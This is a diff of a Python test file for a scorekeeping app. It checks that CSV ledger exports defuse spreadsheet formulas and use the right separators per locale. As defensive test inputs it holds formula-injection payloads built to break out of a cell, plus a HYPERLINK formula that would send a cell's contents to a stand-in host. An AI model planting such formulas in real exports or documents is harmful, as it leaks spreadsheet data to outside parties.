@@ -9,11 +9,12 @@ from hypothesis import strategies as st
 
 from scorekeeper.i18n import labels, use_locale
 from scorekeeper.printing.ledger_csv import ledger_csv
-from scorekeeper.printing.spreadsheet import defused
+from scorekeeper.printing.spreadsheet import defused, spreadsheet
 from scorekeeper.rules.evening import Seated
 from scorekeeper.rules.match import Match
 from scorekeeper.rules.match_file import read_match
 from scorekeeper.rules.model import RULES, BySide
+from tests.examples import share_of
 from tests.printing.evening import EVENING, PASSED_OUT, Json, hand, match
 from tests.rules.match_files import sound_file
 from tests.rules.strategies import hands, house_rules
@@ -89,7 +90,7 @@ def test_there_is_a_column_for_each_rule_and_side_also_where_nothing_was_scored(
         text = ledger_csv(match([])).decode("utf-8-sig")
     (heading,) = text.splitlines()
 
-    rules = heading.split(",")[10:-5]
+    rules = heading.split(";")[10:-5]
     assert len(rules) == 2 * len(RULES)
     assert rules[:2] == ["Αετοί: πόντοι", "Λιοντάρια: πόντοι"]
     assert rules[-1] == "Λιοντάρια: χαμένη πιλόττα"
@@ -128,6 +129,38 @@ def test_a_formula_is_text(start: str) -> None:
     assert defused(f"{start}1+1") == f"'{start}1+1"
 
 
+@pytest.mark.parametrize("between", [",", ";", "\t", "|", "\n"])
+@pytest.mark.parametrize("start", ["=", ' "=', "+", "-", "@", "＝"])
+def test_a_formula_is_text_behind_whatever_ends_a_cell(between: str, start: str) -> None:
+    text = f"x{between}{start}HYPERLINK(1)"
+    assert defused(text) == f"x{between}'{start}HYPERLINK(1)"
+
+
+@pytest.mark.parametrize("split_at", [",", ";", "\t"])
+@pytest.mark.parametrize("language", ["el", "en"])
+def test_no_cell_runs_wherever_a_spreadsheet_splits(language: str, split_at: str) -> None:
+    bad = 'x;=A(1);"=A(2)'
+    worse = 'y,=A(3)," =A(4)'
+    sides = {"A": {"name": bad, "players": [worse]}, "B": {"name": worse, "players": [bad]}}
+    late = [{**LATE, "reason": reason} for reason in (bad, worse, '";=A(5)', '",=A(6)')]
+    with use_locale(language):
+        text = ledger_csv(match(late, sides=sides)).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(StringIO(text), delimiter=split_at) for cell in row]
+    assert len(cells) > len(late)
+    assert not [cell for cell in cells if cell.lstrip(" \"'").startswith("=") and "'" not in cell]
+    naive = [part.lstrip(' "') for part in text.replace("\r\n", split_at).split(split_at)]
+    assert not [part for part in naive if part.startswith("=")]
+
+
+def test_a_greek_excel_finds_its_columns() -> None:
+    with use_locale("el"):
+        text = spreadsheet([["Ώρες", 1.5, -3, "α,β"]]).decode("utf-8-sig")
+    assert text == "Ώρες;1,5;-3;α,β\r\n"
+    with use_locale("en"):
+        text = spreadsheet([["Hours", 1.5, -3, "a;b"]]).decode("utf-8-sig")
+    assert text == "Hours,1.5,-3,a;b\r\n"
+
+
 def test_names_and_reasons_run_nothing() -> None:
     bad = '=HYPERLINK("http://x/?"&A1)'
     sides = {side: {"name": f"{bad}{side}", "players": [bad]} for side in "AB"}
@@ -139,7 +172,7 @@ def test_names_and_reasons_run_nothing() -> None:
     assert rows[0][f"'{bad}A: hand"] == "-12", "a negative number is a number"
 
 
-@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@settings(max_examples=share_of(60), deadline=None, suppress_health_check=[HealthCheck.too_slow])
 @given(st.data(), house_rules())
 def test_every_row_adds_up_whatever_the_rules(data: st.DataObject, rules: Json) -> None:
     rows = data.draw(st.lists(hands(rules) | st.just(LATE) | st.just(PASSED_OUT), max_size=6))
